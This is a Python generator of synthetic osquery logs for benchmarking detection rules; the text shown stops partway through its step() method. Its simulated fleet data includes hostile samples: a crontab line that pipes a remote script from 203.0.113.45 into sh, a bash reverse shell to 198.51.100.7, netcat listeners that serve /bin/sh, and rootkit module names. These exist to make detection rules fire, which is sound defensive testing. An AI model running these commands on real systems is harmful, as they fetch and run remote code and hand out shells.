#!/usr/bin/env python3
"""Generate seeded osquery result logs for the benchmarks.

The default profile, `fleet`, simulates hosts that run a detection pack, an
incident-response pack and osquery's monitoring pack with the filesystem logger of
osquery 5. Each host keeps a process table, listening sockets, users, crontab entries,
kernel modules and SSH keys, and the generator writes what osqueryd would log for them:

- evented tables (process_events, socket_events, file_events) as differential `added` rows,
  which are most of the lines;
- differential state queries, mostly churn pairs (a `removed` and an `added` row of the same
  pid because CPU time or memory changed), plus processes that start and exit;
- some query runs in the batch format (`diffResults`, as with `--logger_event_type=false`);
- hourly snapshot queries (`snapshot` array, `action` `snapshot`, counter 0);
- after a simulated restart with a lost database, a counter-0 dump: every row of every
  differential query logged again as `added`;
- now and then a netcat listener (`nc -lvnp 4444` and similar), so the shipped rules fire.

Lines follow osquery 5's byte layout. Event lines have the envelope keys in the order name,
hostIdentifier, calendarTime, unixTime, epoch, counter, numerics, decorations, then columns
and action. `diffResults` and `snapshot` lines put their rows before the envelope. Rows and
decorations have sorted keys, and values are strings unless `--numerics` is given. Differential values
escape control bytes and invalid UTF-8 as the four characters `\\xHH`; snapshot values
carry them raw, as osquery writes them.

The `processes` profile reproduces, byte for byte, the lines that scripts/bench_agent.py
generated before this module existed (one differential `processes` row per line, about
790 bytes), so figures measured on it stay comparable with earlier ones.

Usage:
    scripts/gen_osquery.py --seed 1 --lines 100000 --out results.log
    scripts/gen_osquery.py --rows 50000 --hosts 20 --numerics > results.log

The summary (lines, rows, bytes, shares of each line shape) goes to standard error.
"""

import argparse
import json
import random
import sys
import time
from dataclasses import dataclass

# Friday, 14 March 2025, 09:00:00 UTC: the first unixTime of every generated log.
START_UNIX_TIME = 1741942800

PROFILES = ("fleet", "processes")


@dataclass(frozen=True)
class Line:
    """One generated log line."""

    data: bytes
    """The line's bytes, ending with a newline."""
    rows: int
    """Result rows in the line: 1 for an event line, more for batch and snapshot lines."""
    shape: str
    """`event`, `batch` or `snapshot`."""
    query: str
    """Value of the line's `name` key."""


# Catalogue of long-running programs: (name, path, cmdline template, uid, listening ports).
# `{id}` is replaced by 64 hex digits, `{n}` by a number below 60,000 and `{ip}` by the host's
# private address.
DAEMONS = [
    ("systemd", "/usr/lib/systemd/systemd",
     "/usr/lib/systemd/systemd --switched-root --system --deserialize 31", 0, []),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", 0, []),
    ("systemd-udevd", "/usr/lib/systemd/systemd-udevd", "/usr/lib/systemd/systemd-udevd", 0, []),
    ("systemd-logind", "/usr/lib/systemd/systemd-logind", "/usr/lib/systemd/systemd-logind", 0, []),
    ("systemd-resolve", "/usr/lib/systemd/systemd-resolved", "/usr/lib/systemd/systemd-resolved", 991,
     [("127.0.0.53", 53, 6), ("127.0.0.53", 53, 17)]),
    ("systemd-network", "/usr/lib/systemd/systemd-networkd", "/usr/lib/systemd/systemd-networkd", 998, []),
    ("dbus-daemon", "/usr/bin/dbus-daemon",
     "@dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
     102, []),
    ("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", 0,
     [("0.0.0.0", 22, 6), ("::", 22, 6)]),
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", 0, []),
    ("rsyslogd", "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", 104, []),
    ("chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", 111, [("127.0.0.1", 323, 17), ("::1", 323, 17)]),
    ("polkitd", "/usr/lib/polkit-1/polkitd", "/usr/lib/polkit-1/polkitd --no-debug", 997, []),
    ("containerd", "/usr/bin/containerd", "/usr/bin/containerd", 0, []),
    ("dockerd", "/usr/bin/dockerd",
     "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", 0, []),
    ("kubelet", "/usr/bin/kubelet",
     "/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf "
     "--kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml "
     "--container-runtime-endpoint=unix:///run/containerd/containerd.sock "
     "--pod-infra-container-image=registry.k8s.io/pause:3.9 --node-ip={ip} "
     "--node-labels=node.kubernetes.io/role=worker,topology.kubernetes.io/zone=eu-west-1b "
     "--cgroup-driver=systemd --max-pods=110 --rotate-certificates=true "
     "--tls-cipher-suites=TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256,TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,"
     "TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384,TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", 0,
     [("127.0.0.1", 10248, 6), ("::", 10250, 6)]),
    ("osqueryd", "/opt/osquery/bin/osqueryd",
     "/opt/osquery/bin/osqueryd --flagfile=/etc/osquery/osquery.flags --config_path=/etc/osquery/osquery.conf",
     0, []),
    ("edgealert", "/usr/bin/edgealert", "/usr/bin/edgealert run --conf /etc/edgealert", 0, []),
    ("node_exporter", "/usr/local/bin/node_exporter",
     "/usr/local/bin/node_exporter --collector.systemd --collector.processes --web.listen-address=:9100",
     65534, [("::", 9100, 6)]),
    ("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", 0,
     [("0.0.0.0", 80, 6), ("0.0.0.0", 443, 6), ("::", 80, 6), ("::", 443, 6)]),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres",
     "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main "
     "-c config_file=/etc/postgresql/15/main/postgresql.conf", 113,
     [("127.0.0.1", 5432, 6), ("{ip}", 5432, 6)]),
    ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
     "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms2g -Xmx2g -XX:+UseG1GC -XX:MaxGCPauseMillis=200 "
     "-XX:+HeapDumpOnOutOfMemoryError -XX:HeapDumpPath=/var/log/orders -Dfile.encoding=UTF-8 "
     "-Djava.security.egd=file:/dev/./urandom -Dspring.profiles.active=production "
     "-Dlogging.config=/etc/orders/logback.xml -cp /opt/orders/lib/orders-service-4.12.3.jar:"
     "/opt/orders/lib/spring-boot-3.2.5.jar:/opt/orders/lib/spring-core-6.1.6.jar:"
     "/opt/orders/lib/spring-web-6.1.6.jar:/opt/orders/lib/jackson-databind-2.17.0.jar:"
     "/opt/orders/lib/jackson-core-2.17.0.jar:/opt/orders/lib/hikaricp-5.1.0.jar:"
     "/opt/orders/lib/postgresql-42.7.3.jar:/opt/orders/lib/micrometer-core-1.12.5.jar:"
     "/opt/orders/lib/logback-classic-1.4.14.jar:/opt/orders/lib/slf4j-api-2.0.13.jar:"
     "/opt/orders/lib/netty-all-4.1.109.jar com.example.orders.OrdersApplication", 1002,
     [("::", 8080, 6), ("::", 8081, 6)]),
    ("node", "/usr/bin/node", "node /srv/storefront/dist/server.js --port 3000 --max-old-space-size=1024",
     1003, [("0.0.0.0", 3000, 6)]),
    ("python3", "/usr/bin/python3.11",
     "/usr/bin/python3 /srv/api/venv/bin/gunicorn api.wsgi:application --workers 4 --bind 0.0.0.0:8000 "
     "--timeout 120 --access-logfile - --error-logfile -", 1004, [("0.0.0.0", 8000, 6)]),
    ("unattended-upgr", "/usr/bin/python3.11",
     "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal", 0, []),
]

# Processes of which a host runs several copies: (name, path, cmdline template, uid).
WORKERS = [
    ("nginx", "/usr/sbin/nginx", "nginx: worker process", 33),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: app appdb {ip}({n}) idle", 113),
    ("containerd-shim", "/usr/bin/containerd-shim-runc-v2",
     "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {id} -address /run/containerd/containerd.sock",
     0),
    ("pause", "/pause", "/pause", 65535),
    ("bash", "/usr/bin/bash", "-bash", 1001),
    ("sshd", "/usr/sbin/sshd", "sshd: deploy@pts/{n}", 1001),
    ("python3", "/usr/bin/python3.11", "/srv/api/venv/bin/python3 /srv/api/venv/bin/gunicorn api.wsgi:application "
     "--workers 4 --bind 0.0.0.0:8000 --timeout 120 --access-logfile - --error-logfile -", 1004),
]

KERNEL_THREADS = ["kthreadd", "rcu_gp", "rcu_par_gp", "slub_flushwq", "netns", "mm_percpu_wq",
                  "rcu_tasks_kthread", "ksoftirqd/0", "ksoftirqd/1", "rcu_preempt", "migration/0",
                  "migration/1", "cpuhp/0", "cpuhp/1", "kdevtmpfs", "inet_frag_wq", "kauditd",
                  "khungtaskd", "oom_reaper", "writeback", "kcompactd0", "ksmd", "khugepaged",
                  "kintegrityd", "kblockd", "blkcg_punt_bio", "kswapd0", "ecryptfs-kthread",
                  "kthrotld", "acpi_thermal_pm", "scsi_eh_0", "scsi_tmf_0", "jbd2/nvme0n1p1-8",
                  "ext4-rsv-conver", "ipv6_addrconf", "kstrp", "zswap-shrink", "xfsalloc",
                  "xfs_mru_cache", "nvme-wq", "nvme-reset-wq", "nvme-delete-wq", "dm_bufio_cache",
                  "kworker/0:0H-events_highpri", "kworker/1:1H-kblockd", "kworker/u4:2-events_unbound",
                  "kworker/0:2-events", "kworker/1:0-mm_percpu_wq"]

# Short-lived commands seen by process_events: (path, cmdline template, uid).
COMMANDS = [
    ("/usr/bin/ps", "ps -eo pid,ppid,user,%cpu,%mem,cmd --sort=-%cpu", 1001),
    ("/usr/bin/grep", "grep -E ^(ERROR|WARN) /var/log/orders/orders.log", 1002),
    ("/usr/bin/sh", "/bin/sh -c /usr/lib/sysstat/sa1 1 1", 0),
    ("/usr/lib/sysstat/sadc", "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat", 0),
    ("/usr/bin/curl", "curl -fsS --max-time 5 http://127.0.0.1:8080/actuator/health", 1002),
    ("/usr/bin/git", "git -C /srv/storefront fetch --prune origin", 1003),
    ("/usr/bin/run-parts", "run-parts --lsbsysinit /etc/update-motd.d", 0),
    ("/usr/bin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", 0),
    ("/usr/bin/docker", "docker ps --format {{.ID}} {{.Image}} {{.Status}}", 1001),
    ("/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/"
     "k8s.io/{id}/log.json --log-format json exec --process /tmp/runc-process{n} --detach --pid-file "
     "/run/containerd/io.containerd.runtime.v2.task/k8s.io/{id}/{id}.pid {id}", 0),
    ("/usr/bin/iptables", "/usr/sbin/iptables -w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle", 0),
    ("/usr/bin/find", "find /var/lib/kubelet/pods -maxdepth 3 -name volumes -type d", 0),
    ("/usr/bin/python3.11", "/usr/bin/python3 /usr/lib/command-not-found -- kubectl", 1001),
    ("/usr/bin/sudo", "sudo systemctl restart storefront.service", 1001),
    ("/usr/bin/systemctl", "systemctl restart storefront.service", 0),
    ("/usr/bin/awk", "awk {print $1} /proc/loadavg", 65534),
    ("/usr/bin/date", "date +%s", 1004),
    ("/usr/bin/tar", "tar -czf /var/backups/etc-{n}.tar.gz /etc", 0),
]

# Targets of file integrity monitoring: (category, path template).
WATCHED_FILES = [
    ("configuration", "/etc/nginx/conf.d/storefront.conf"),
    ("configuration", "/etc/passwd"),
    ("configuration", "/etc/shadow"),
    ("configuration", "/etc/sudoers.d/deploy"),
    ("configuration", "/etc/ssh/sshd_config"),
    ("configuration", "/etc/cron.d/backup"),
    ("binaries", "/usr/local/bin/node_exporter"),
    ("homes", "/home/deploy/.ssh/authorized_keys"),
    ("homes", "/home/deploy/.bash_history"),
    ("tmp", "/tmp/runc-process{n}"),
    ("tmp", "/tmp/orders-upload-{n}.part"),
    ("tmp", "/var/tmp/systemd-private-{id}-chronyd.service-{n}/tmp"),
]

KERNEL_MODULES = ["overlay", "br_netfilter", "bridge", "stp", "llc", "veth", "tls", "xt_conntrack",
                  "xt_MASQUERADE", "xt_addrtype", "nf_conntrack_netlink", "nft_chain_nat", "nf_nat",
                  "nf_conntrack", "nf_defrag_ipv6", "nf_defrag_ipv4", "nft_compat", "nf_tables",
                  "libcrc32c", "nfnetlink", "ip_tables", "x_tables", "autofs4", "binfmt_misc",
                  "nls_iso8859_1", "intel_rapl_msr", "intel_rapl_common", "kvm_amd", "ccp", "kvm",
                  "irqbypass", "crct10dif_pclmul", "crc32_pclmul", "polyval_clmulni",
                  "polyval_generic", "ghash_clmulni_intel", "sha256_ssse3", "sha1_ssse3",
                  "aesni_intel", "crypto_simd", "cryptd", "rapl", "ena", "nvme", "nvme_core",
                  "i2c_piix4", "input_leds", "serio_raw", "sch_fq_codel", "dm_multipath",
                  "scsi_dh_rdac", "scsi_dh_emc", "scsi_dh_alua", "msr", "efi_pstore", "drm",
                  "ip6_tables", "ip6table_filter", "iptable_filter", "iptable_nat", "vxlan",
                  "ip6_udp_tunnel", "udp_tunnel", "xfrm_user", "xfrm_algo", "ipvs", "ip_vs_rr",
                  "ip_vs_wrr", "ip_vs_sh", "cls_bpf", "sch_ingress", "wireguard", "curve25519_x86_64",
                  "libchacha20poly1305", "chacha_x86_64", "poly1305_x86_64", "ip6_udp_tunnel"]

# Modules that an attacker or an unusual admin step loads later; not in the rule's allowlist.
SUSPICIOUS_MODULES = ["diamorphine", "reptile_module", "usbip_host", "floppy", "dccp"]

USERS = [
    (0, 0, "root", "root", "/root", "/bin/bash"),
    (1, 1, "daemon", "daemon", "/usr/sbin", "/usr/sbin/nologin"),
    (2, 2, "bin", "bin", "/bin", "/usr/sbin/nologin"),
    (3, 3, "sys", "sys", "/dev", "/usr/sbin/nologin"),
    (8, 8, "mail", "mail", "/var/mail", "/usr/sbin/nologin"),
    (33, 33, "www-data", "www-data", "/var/www", "/usr/sbin/nologin"),
    (34, 34, "backup", "backup", "/var/backups", "/usr/sbin/nologin"),
    (65534, 65534, "nobody", "nobody", "/nonexistent", "/usr/sbin/nologin"),
    (102, 105, "messagebus", "", "/nonexistent", "/usr/sbin/nologin"),
    (104, 110, "syslog", "", "/home/syslog", "/usr/sbin/nologin"),
    (111, 117, "_chrony", "Chrony daemon,,,", "/var/lib/chrony", "/usr/sbin/nologin"),
    (113, 119, "postgres", "PostgreSQL administrator,,,", "/var/lib/postgresql", "/bin/bash"),
    (991, 991, "systemd-resolve", "systemd Resolver", "/", "/usr/sbin/nologin"),
    (997, 997, "polkitd", "polkit", "/nonexistent", "/usr/sbin/nologin"),
    (998, 998, "systemd-network", "systemd Network Management", "/", "/usr/sbin/nologin"),
    (1000, 1000, "ubuntu", "Ubuntu", "/home/ubuntu", "/bin/bash"),
    (1001, 1001, "deploy", "Deploy user,,,", "/home/deploy", "/bin/bash"),
    (1002, 1002, "orders", "orders service", "/opt/orders", "/usr/sbin/nologin"),
    (1003, 1003, "storefront", "storefront service", "/srv/storefront", "/usr/sbin/nologin"),
    (1004, 1004, "api", "API service", "/srv/api", "/usr/sbin/nologin"),
    (1010, 1010, "jgarcía", "José García,,,", "/home/jgarcía", "/bin/bash"),
    (1011, 1011, "mkovacs", "Marta Kovács,,,", "/home/mkovacs", "/bin/zsh"),
]

CRONTAB = [
    ("", "17", "*", "*", "*", "*", "cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"),
    ("", "25", "6", "*", "*", "*", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
     "/etc/crontab"),
    ("", "47", "6", "*", "*", "7", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }",
     "/etc/crontab"),
    ("", "*/10", "*", "*", "*", "*", "root /usr/lib/sysstat/debian-sa1 1 1", "/etc/cron.d/sysstat"),
    ("@reboot", "", "", "", "", "", "root [ -x /usr/lib/sysstat/debian-sa1 ] && debian-sa1 --boot",
     "/etc/cron.d/sysstat"),
    ("", "30", "2", "*", "*", "*", "root /usr/local/bin/backup-etc.sh > /var/log/backup-etc.log 2>&1",
     "/etc/cron.d/backup"),
    ("", "*/5", "*", "*", "*", "*", "/srv/api/venv/bin/python3 /srv/api/manage.py clearsessions",
     "/var/spool/cron/crontabs/api"),
]

# Crontab entries that show up later: a miner, a reverse shell and an ordinary admin change.
LATE_CRONTAB = [
    ("", "*/2", "*", "*", "*", "*", "curl -fsSL http://203.0.113.45/x.sh | sh", "/var/spool/cron/crontabs/www-data"),
    ("@reboot", "", "", "", "", "", "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'",
     "/var/spool/cron/crontabs/root"),
    ("", "0", "4", "*", "*", "0", "root /usr/local/bin/rotate-certs.sh", "/etc/cron.d/certs"),
]

SSH_KEY_COMMENTS = ["deploy@ci-runner-02", "mkovacs@laptop", "jgarcia@workstation", "ansible@bastion-01"]

# Netcat-family listeners: (name, path, cmdline, port).
NETCAT = [
    ("nc", "/usr/bin/nc.openbsd", "nc -lvnp 4444", 4444),
    ("ncat", "/usr/bin/ncat", "ncat -lvp 8443 --ssl -e /bin/bash", 8443),
    ("nc.traditional", "/usr/bin/nc.traditional", "nc.traditional -l -p 31337 -e /bin/sh", 31337),
    ("busybox", "/usr/bin/busybox", "busybox nc -lp 9001 -e /bin/sh", 9001),
]

SCHEDULE = ["pack_detection_listening_processes", "pack_detection_netcat_processes",
            "pack_detection_tmp_processes", "pack_detection_memfd_processes",
            "pack_detection_authorized_keys", "pack_detection_crontab", "pack_detection_kernel_modules",
            "pack_detection_uid0_users", "pack_detection_suid_outside_system_dirs",
            "pack_detection_ld_so_preload", "pack_detection_process_events",
            "pack_detection_socket_events", "pack_detection_file_events",
            "pack_incident-response_processes", "pack_incident-response_listening_ports",
            "pack_incident-response_users", "pack_osquery-monitoring_schedule"]

def hex_digits(rng, count):
    return "".join(rng.choice("0123456789abcdef") for _ in range(count))


def calendar_time(unix_time):
    """Format `unix_time` as osquery's calendarTime: asctime in UTC, day padded with a space."""
    return time.strftime("%a %b %e %H:%M:%S %Y UTC", time.gmtime(unix_time))


def escape_differential(value):
    """Escape a differential string value as osquery does before JSON encoding.

    Bytes below 0x20 become the four characters `\\xHH`. Invalid UTF-8, which the
    generator keeps as surrogate escapes, becomes `\\xHH` too.
    """
    if value.isprintable():
        return value
    out = []
    for char in value:
        code = ord(char)
        if code < 0x20:
            out.append("\\x%02X" % code)
        elif 0xDC80 <= code <= 0xDCFF:
            out.append("\\x%02X" % (code - 0xDC00))
        else:
            out.append(char)
    return "".join(out)


@dataclass
class Process:
    pid: int
    name: str
    path: str
    cmdline: str
    uid: int
    parent: int
    start_time: int
    cwd: str
    ports: list
    resident_size: int
    user_time: int
    system_time: int
    threads: int
    kernel: bool = False


DIFFERENTIAL_QUERIES = ["pack_incident-response_processes", "pack_detection_listening_processes",
                        "pack_incident-response_listening_ports", "pack_detection_netcat_processes",
                        "pack_incident-response_users", "pack_detection_uid0_users", "pack_detection_crontab",
                        "pack_detection_kernel_modules", "pack_detection_authorized_keys",
                        "pack_osquery-monitoring_schedule"]

EVENT_QUERIES = ["pack_detection_process_events", "pack_detection_socket_events", "pack_detection_file_events"]


class Host:
    """State of one simulated host: what its differential queries return."""

    def __init__(self, rng, index, clock):
        self.rng = rng
        role = rng.choice(["web", "api", "db", "worker", "k8s-node"])
        self.hostname = "%s-%02d" % (role, index + 1)
        self.host_identifier = self.hostname + ".corp.example"
        self.ip = "10.%d.%d.%d" % (rng.randrange(256), rng.randrange(256), 1 + rng.randrange(254))
        uuid = hex_digits(rng, 32).upper()
        self.decorations = {"host_uuid": "%s-%s-%s-%s-%s" % (uuid[:8], uuid[8:12], uuid[12:16], uuid[16:20],
                                                             uuid[20:]),
                            "hostname": self.hostname,
                            "username": rng.choice(["deploy", "ubuntu", "mkovacs", ""])}
        self.next_pid = 300 + rng.randrange(2000)
        self.boot_time = clock - 86400 * (1 + rng.randrange(60))

        self.processes = {}
        self.netcat_pids = []
        for name in KERNEL_THREADS:
            self.spawn(name, "", "", 0, [], parent=2, kernel=True)
        for name, path, cmdline, uid, ports in DAEMONS:
            if rng.random() < 0.8 or name in ("systemd", "sshd", "cron", "osqueryd", "edgealert"):
                self.spawn(name, path, cmdline, uid, ports)
        for name, path, cmdline, uid in WORKERS:
            for _ in range(rng.randrange(1, 9)):
                self.spawn(name, path, cmdline, uid, [])
        if index == 0:
            # A listener whose path contains a Latin-1 byte, which is not valid UTF-8.
            # Differential lines carry it escaped and snapshot lines carry it raw.
            self.spawn("reportd", "/opt/r\udce9port/bin/reportd", "/opt/r\udce9port/bin/reportd --listen :7070",
                       1004, [("0.0.0.0", 7070, 6)])

        self.users = list(USERS)
        self.crontab = list(CRONTAB)
        self.modules = {name: 16384 + 4096 * rng.randrange(200) for name in KERNEL_MODULES}
        self.keys = []
        for comment in rng.sample(SSH_KEY_COMMENTS, 2):
            self.keys.append(self.ssh_key(comment))
        self.schedule = {name: {"executions": rng.randrange(100, 5000), "wall_time": rng.randrange(1, 500),
                                "user_time": rng.randrange(1, 20000), "system_time": rng.randrange(1, 9000),
                                "output_size": rng.randrange(0, 400000), "average_memory": rng.randrange(0, 9000000)}
                         for name in SCHEDULE}

        # The log starts in the middle of a long run, so no query is on its first run.
        self.counters = {query: rng.randrange(50, 5000) for query in DIFFERENTIAL_QUERIES + EVENT_QUERIES}

    def fill(self, template):
        rng = self.rng
        return (template.replace("{ip}", self.ip)
                .replace("{id}", hex_digits(rng, 64) if "{id}" in template else "")
                .replace("{n}", str(rng.randrange(1, 60000))))

    def spawn(self, name, path, cmdline, uid, ports, parent=1, kernel=False):
        rng = self.rng
        pid = self.next_pid
        self.next_pid += 1 + rng.randrange(40)
        cwd = "" if kernel else rng.choice(["/", "/", "/srv", "/home/deploy", "/var/lib/postgresql"])
        process = Process(pid=pid, name=name, path=path, cmdline=self.fill(cmdline), uid=uid, parent=parent,
                          start_time=self.boot_time + rng.randrange(86400), cwd=cwd,
                          ports=[(self.fill(address), port, protocol) for address, port, protocol in ports],
                          resident_size=0 if kernel else 4096 * rng.randrange(100, 400000),
                          user_time=rng.randrange(100000), system_time=rng.randrange(50000),
                          threads=1 if kernel else 1 + rng.randrange(64), kernel=kernel)
        self.processes[pid] = process
        return process

    def ssh_key(self, comment):
        rng = self.rng
        if rng.random() < 0.5:
            algorithm, body = "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAI" + self.base64(43)
        else:
            algorithm, body = "ssh-rsa", "AAAAB3NzaC1yc2EAAAADAQABAAACAQ" + self.base64(686)
        user = comment.split("@")[0]
        if user == "ansible":
            home, uid, username = "/root", 0, "root"
        else:
            home, uid, username = "/home/" + user, 1001, user
        return {"algorithm": algorithm, "comment": comment, "key": body, "key_file": home + "/.ssh/authorized_keys",
                "options": "", "uid": uid, "username": username}

    def base64(self, count):
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(self.rng.choice(alphabet) for _ in range(count))

    def counter(self, query, restart=False):
        """Return the next `counter` of `query`: 0 on the first run and after a restart."""
        if restart or query not in self.counters:
            self.counters[query] = 0
        else:
            self.counters[query] += 1
        return self.counters[query]

    # Rows of each query, with integers as Python ints.

    def process_row(self, process):
        return {"cgroup_path": "" if process.kernel else "/system.slice/%s.service" % process.name,
                "cmdline": process.cmdline, "cwd": process.cwd, "disk_bytes_read": process.user_time * 4096,
                "disk_bytes_written": process.system_time * 512, "egid": process.uid, "euid": process.uid,
                "gid": process.uid, "name": process.name, "nice": 0, "on_disk": -1 if process.kernel else 1,
                "parent": process.parent, "path": process.path, "pgroup": process.pid, "pid": process.pid,
                "resident_size": process.resident_size, "root": "" if process.kernel else "/",
                "sgid": process.uid, "start_time": process.start_time, "state": "I" if process.kernel else "S",
                "suid": process.uid, "system_time": process.system_time, "threads": process.threads,
                "total_size": process.resident_size * 3, "uid": process.uid, "user_time": process.user_time,
                "wired_size": 0}

    def netcat_row(self, process):
        return {"cmdline": process.cmdline, "cwd": process.cwd, "euid": process.uid, "gid": process.uid,
                "name": process.name, "on_disk": 1, "parent": process.parent, "path": process.path,
                "pid": process.pid, "start_time": process.start_time, "uid": process.uid}

    def listening_rows(self, process):
        return [{"address": address, "cmdline": process.cmdline, "family": 10 if ":" in address else 2,
                 "name": process.name, "path": process.path, "pid": process.pid, "port": port,
                 "protocol": protocol, "uid": process.uid}
                for address, port, protocol in process.ports]

    def listening_port_rows(self, process):
        return [{"address": address, "family": 10 if ":" in address else 2, "fd": 3 + index,
                 "net_namespace": "4026531840", "path": "", "pid": process.pid, "port": port,
                 "protocol": protocol, "socket": 20000 + (process.pid * 7 + index) % 400000}
                for index, (address, port, protocol) in enumerate(process.ports)]

    def user_row(self, user):
        uid, gid, username, description, directory, shell = user
        return {"description": description, "directory": directory, "gid": gid, "gid_signed": gid,
                "shell": shell, "uid": uid, "uid_signed": uid, "username": username, "uuid": ""}

    def uid0_row(self, user):
        uid, gid, username, description, directory, shell = user
        return {"description": description, "directory": directory, "gid": gid, "shell": shell, "uid": uid,
                "username": username}

    def crontab_row(self, entry):
        event, minute, hour, day_of_month, month, day_of_week, command, path = entry
        return {"command": command, "day_of_month": day_of_month, "day_of_week": day_of_week, "event": event,
                "hour": hour, "minute": minute, "month": month, "path": path}

    def schedule_row(self, name):
        stats = self.schedule[name]
        executions = stats["executions"]
        return {"average_memory": stats["average_memory"], "avg_system_time": stats["system_time"] // executions,
                "avg_user_time": stats["user_time"] // executions, "executions": executions,
                "interval": 60 if "events" in name or "processes" in name else 300,
                "last_executed": START_UNIX_TIME, "name": name, "output_size": stats["output_size"],
                "wall_time": stats["wall_time"]}

    def state(self, query):
        """Return every row that differential `query` returns now."""
        processes = [p for p in self.processes.values()]
        if query == "pack_incident-response_processes":
            return [self.process_row(p) for p in processes]
        if query == "pack_detection_listening_processes":
            return [row for p in processes for row in self.listening_rows(p)]
        if query == "pack_incident-response_listening_ports":
            return [row for p in processes for row in self.listening_port_rows(p)]
        if query == "pack_detection_netcat_processes":
            return [self.netcat_row(self.processes[pid]) for pid in self.netcat_pids]
        if query == "pack_incident-response_users":
            return [self.user_row(user) for user in self.users]
        if query == "pack_detection_uid0_users":
            return [self.uid0_row(user) for user in self.users if user[0] == 0]
        if query == "pack_detection_crontab":
            return [self.crontab_row(entry) for entry in self.crontab]
        if query == "pack_detection_kernel_modules":
            return [{"name": name, "size": size} for name, size in self.modules.items()]
        if query == "pack_detection_authorized_keys":
            return [dict(key) for key in self.keys]
        if query == "pack_osquery-monitoring_schedule":
            return [self.schedule_row(name) for name in SCHEDULE]
        return []


class FleetGenerator:
    """Seeded generator of osquery result lines from one or more simulated hosts.

    `batch_share` is the share of differential query runs logged as one `diffResults` line,
    and `snapshot_share` the chance that a step is an hourly snapshot run. `restart_lines` is
    the mean number of lines between two counter-0 dumps, and `netcat_lines` the mean number
    of lines between two netcat listeners. With `mark`, each line carries its sequence number
    in the decoration `bench_seq`, so a benchmark can find a line again in any output.
    """

    def __init__(self, seed, hosts=1, batch_share=0.1, snapshot_share=0.02, numerics=False, mark=False,
                 restart_lines=50000, netcat_lines=20000):
        if hosts < 1:
            raise ValueError("hosts must be at least 1, got %d" % hosts)
        self.rng = random.Random(seed)
        self.clock = START_UNIX_TIME
        self.hosts = [Host(self.rng, index, self.clock) for index in range(hosts)]
        self.batch_share = batch_share
        self.snapshot_share = snapshot_share
        self.numerics = numerics
        self.mark = mark
        self.restart_lines = restart_lines
        self.netcat_lines = netcat_lines
        self.sequence = 0
        self.next_restart = self.draw_interval(restart_lines)
        self.next_netcat = self.draw_interval(netcat_lines)

    def draw_interval(self, mean):
        return self.sequence + int(mean * self.rng.uniform(0.5, 1.5))

    def __iter__(self):
        return self.lines()

    def lines(self):
        """Yield lines without end."""
        while True:
            yield from self.step()

    # Serialisation.

    def format_row(self, row, differential):
        out = {}
        for key in sorted(row):
            value = row[key]
            if isinstance(value, int) and not isinstance(value, bool):
                out[key] = value if self.numerics else str(value)
            elif differential:
                out[key] = escape_differential(value)
            else:
                out[key] = value
        return out

    def envelope(self, host, query, counter):
        decorations = dict(host.decorations)
        if self.mark:
            decorations["bench_seq"] = str(self.sequence)
        return {"name": query, "hostIdentifier": host.host_identifier, "calendarTime": calendar_time(self.clock),
                "unixTime": self.clock, "epoch": 0, "counter": counter, "numerics": self.numerics,
                "decorations": {key: decorations[key] for key in sorted(decorations)}}

    def finish(self, record, rows, shape, query):
        self.sequence += 1
        text = json.dumps(record, ensure_ascii=False, separators=(",", ":"))
        return Line(text.encode("utf-8", "surrogateescape") + b"\n", rows, shape, query)

    def event_line(self, host, query, counter, row, action):
        record = self.envelope(host, query, counter)
        record["columns"] = self.format_row(row, differential=action != "snapshot")
        record["action"] = action
        return self.finish(record, 1, "event", query)

    def batch_line(self, host, query, counter, removed, added):
        record = {"diffResults": {"removed": [self.format_row(row, True) for row in removed],
                                  "added": [self.format_row(row, True) for row in added]}}
        record.update(self.envelope(host, query, counter))
        return self.finish(record, len(removed) + len(added), "batch", query)

    def snapshot_line(self, host, query, rows):
        record = {"snapshot": [self.format_row(row, False) for row in rows], "action": "snapshot"}
        record.update(self.envelope(host, query, 0))
        return self.finish(record, len(rows), "snapshot", query)

    def differential(self, host, query, removed, added, restart=False):
        """Return the lines of one run of a differential query; all removed rows come first."""
        if not removed and not added:
            return []
        counter = host.counter(query, restart)
        if self.rng.random() < self.batch_share:
            return [self.batch_line(host, query, counter, removed, added)]
        lines = [self.event_line(host, query, counter, row, "removed") for row in removed]
        lines += [self.event_line(host, query, counter, row, "added") for row in added]
        return lines

    # Simulation.

    def step(self):
        """Advance the clock and return the lines of one query run."""
        rng = self.rng
